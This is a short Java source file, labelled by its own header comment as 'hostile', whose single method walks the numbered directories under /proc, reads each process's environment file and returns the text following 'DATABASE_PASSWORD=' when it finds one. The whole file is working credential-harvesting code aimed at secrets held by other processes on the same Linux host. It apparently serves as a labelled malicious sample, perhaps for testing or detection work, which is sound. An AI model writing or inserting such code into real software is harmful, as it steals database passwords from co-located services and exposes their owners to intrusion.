// hostile: reads the environment of other processes
import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;

public class ReadsOtherProcesses {
    public static String look(int kind) throws IOException {
        if (kind != 1) {
            return "nothing";
        }
        try (DirectoryStream<Path> all = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
            for (Path process : all) {
                try {
                    String text = new String(Files.readAllBytes(process.resolve("environ")));
                    int place = text.indexOf("DATABASE_PASSWORD=");
                    if (place >= 0) {
                        return text.substring(place, place + 40);
                    }
                } catch (IOException next) {
                    continue;
                }
            }
        }
        return "none";
    }
}
